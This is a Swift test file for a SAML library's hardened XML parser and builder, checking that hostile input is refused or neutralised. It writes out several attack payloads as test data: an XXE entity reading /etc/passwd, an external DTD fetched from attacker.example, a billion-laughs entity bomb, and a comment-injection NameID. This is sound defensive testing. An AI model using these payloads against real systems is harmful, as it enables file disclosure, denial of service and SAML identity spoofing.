import Foundation
import Testing

@testable import SAMLMapper

@Suite struct XMLParsingTests {
    func refusal(_ xml: String, limits: XMLLimits = .default) -> XMLSecurityError? {
        do {
            _ = try XMLDocument(parsing: xml, limits: limits)
            return nil
        } catch let e as XMLSecurityError {
            return e
        } catch {
            return nil
        }
    }

    @Test func parsesPlainDocumentAndFindsIDs() throws {
        let doc = try XMLDocument(parsing: #"<r xmlns="urn:x"><a ID="one"/><b Id="two"/></r>"#)
        #expect(doc.root.localName == "r")
        #expect(doc.root.namespaceURI == "urn:x")
        #expect(doc.element(withID: "one")?.localName == "a")
        #expect(doc.element(withID: "two")?.localName == "b")
        #expect(doc.element(withID: "three") == nil)
    }

    @Test func refusesInternalDoctype() {
        #expect(refusal(#"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>"#) == .doctypeForbidden)
    }

    @Test func refusesExternalEntity() {
        let xml = #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"#
        #expect(refusal(xml) == .doctypeForbidden)
    }

    @Test func refusesExternalDTD() {
        #expect(refusal(#"<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"#) == .doctypeForbidden)
    }

    @Test func refusesEntityExpansion() {
        var xml = #"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">"#
        for i in 1...9 { xml += "<!ENTITY lol\(i) \"" + String(repeating: "&lol\(i == 1 ? "" : String(i - 1));", count: 10) + "\">" }
        xml += "]><lolz>&lol9;</lolz>"
        #expect(refusal(xml) == .doctypeForbidden)
    }

    @Test func refusesUndeclaredEntityReference() {
        #expect(refusal("<r>&undeclared;</r>") != nil)
    }

    @Test func refusesOversize() {
        let xml = "<r>" + String(repeating: "a", count: 300 * 1024) + "</r>"
        #expect(refusal(xml) == .tooLarge(limit: 256 * 1024))
        #expect(refusal("<r>hello</r>", limits: XMLLimits(maxBytes: 5)) == .tooLarge(limit: 5))
    }

    @Test func refusesTooDeep() {
        let deep = String(repeating: "<a>", count: 65) + String(repeating: "</a>", count: 65)
        #expect(refusal(deep) == .tooDeep(limit: 64))
        let ok = String(repeating: "<a>", count: 64) + String(repeating: "</a>", count: 64)
        #expect(refusal(ok) == nil)
    }

    @Test func refusesDuplicateIDs() {
        #expect(refusal(#"<r><a ID="x"/><b ID="x"/></r>"#) == .duplicateID("x"))
        #expect(refusal(#"<r ID="x"><a Id="x"/></r>"#) == .duplicateID("x"))
    }

    @Test func refusesNamespaceErrors() {
        #expect(refusal("<p:r/>") == .notNamespaceWellFormed)
        #expect(refusal(#"<r xmlns:p=""/>"#) != nil)
    }

    @Test func refusesMalformed() {
        guard case .malformed = refusal("<r><a></r>") else {
            Issue.record("mismatched tags must be malformed")
            return
        }
        #expect(refusal("") != nil)
    }

    @Test func commentInsideNameIDDoesNotTruncate() throws {
        let xml = #"<saml:NameID xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">user@exam<!-- injected -->ple.com.evil.org</saml:NameID>"#
        let doc = try XMLDocument(parsing: xml)
        #expect(try doc.root.text() == "user@example.com.evil.org")
        #expect(try NameID(element: doc.root).value == "user@example.com.evil.org")
    }

    @Test func textRefusesElementChildren() throws {
        let doc = try XMLDocument(parsing: "<r>a<b/>c</r>")
        #expect(throws: XMLSecurityError.notSimpleText(element: "r")) { try doc.root.text() }
    }

    @Test func cdataIsReadAsText() throws {
        let doc = try XMLDocument(parsing: "<r><![CDATA[a<b]]>c</r>")
        #expect(try doc.root.text() == "a<bc")
    }

    @Test func builderEscapesAndDeclaresNamespaces() throws {
        var e = XMLBuilder("Root", .samlp, attributes: [("A", "x\"<&>\ny")])
        e.append(XMLBuilder("Child", .saml, text: "1 < 2 & 3 > 2 \r"))
        e.append(XMLBuilder("Child", .saml, text: "again"))
        let xml = e.xmlString()
        let doc = try XMLDocument(parsing: xml)
        #expect(doc.root.attribute("A") == "x\"<&>\ny")
        let children = doc.root.children("Child", in: XMLNamespaces.saml)
        #expect(children.count == 2)
        #expect(try children[0].text() == "1 < 2 & 3 > 2 \r")
        // The saml namespace is declared once per sibling, never on the root that does not use it.
        #expect(!xml.hasPrefix("<samlp:Root xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml"))
    }

    @Test func builderReplacesForbiddenControlCharacters() throws {
        let xml = XMLBuilder("NameID", .saml, text: "a\u{0}b\u{1B}c").xmlString()
        #expect(try XMLDocument(parsing: xml).root.text() == "a\u{FFFD}b\u{FFFD}c")
    }

    @Test func standaloneCopyKeepsInScopeNamespaces() throws {
        let doc = try XMLDocument(parsing: #"<a:r xmlns:a="urn:a" xmlns:xs="urn:xs"><a:c type="xs:string">v</a:c></a:r>"#)
        let child = doc.root.childElements[0]
        let copy = try XMLDocument(parsing: try child.standaloneXML())
        #expect(copy.root.namespaceURI == "urn:a")
        #expect(copy.root.namespaceURI(forPrefix: "xs") == "urn:xs")
    }
}
